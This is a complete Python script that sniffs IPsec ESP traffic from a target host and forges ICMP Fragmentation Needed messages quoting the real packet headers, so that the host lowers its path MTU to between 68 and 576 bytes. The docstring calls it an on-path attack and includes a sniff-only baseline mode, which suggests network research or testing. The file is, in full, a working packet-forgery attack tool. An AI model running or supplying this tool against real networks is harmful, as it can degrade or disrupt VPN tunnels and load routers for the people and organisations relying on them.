#!/usr/bin/env python3
"""Forges ICMP Frag Needed for live ESP packets, as an on-path attacker.

Sniffs IPv4 frames on IFACE; for every Nth ESP packet (IP protocol 50, or
UDP to port 4500) from SRC it sends SRC an ICMP Destination Unreachable /
Fragmentation Needed that quotes the packet's real IP and ESP headers and
claims a next-hop MTU between 68 and 576. Stops after SECONDS and prints
how many it forged. EVERY 0 only sniffs: the same load on the router
without the attack, for a fair baseline. Stdlib only.

usage: ptb-attack.py IFACE SRC SECONDS [EVERY]
"""
import random
import socket
import struct
import sys
import time

from inet import csum

ETH_P_IP = 0x0800



def is_esp(ip):
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] == 50:
        return ihl
    if ip[9] == 17 and len(ip) >= ihl + 12:
        dport = struct.unpack("!H", ip[ihl + 2:ihl + 4])[0]
        marker = ip[ihl + 8:ihl + 12]
        if dport == 4500 and marker != b"\0\0\0\0":
            return ihl + 8
    return None


def main():
    iface, src, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    every = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                          socket.htons(ETH_P_IP))
    sniff.bind((iface, 0))
    sniff.settimeout(0.2)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    src_b = socket.inet_aton(src)
    end = time.time() + seconds
    seen = forged = 0
    while time.time() < end:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) < 20 or ip[12:16] != src_b:
            continue
        esp_off = is_esp(ip)
        if esp_off is None or len(ip) < esp_off + 8:
            continue
        seen += 1
        if not every or seen % every:
            continue
        quote = ip[:esp_off + 8]
        mtu = random.randint(68, 576)
        hdr = struct.pack("!BBHHH", 3, 4, 0, 0, mtu)
        icmp = hdr + quote
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        out.sendto(icmp, (src, 0))
        forged += 1
    print("forged %d PTBs for %d ESP packets" % (forged, seen))


if __name__ == "__main__":
    main()
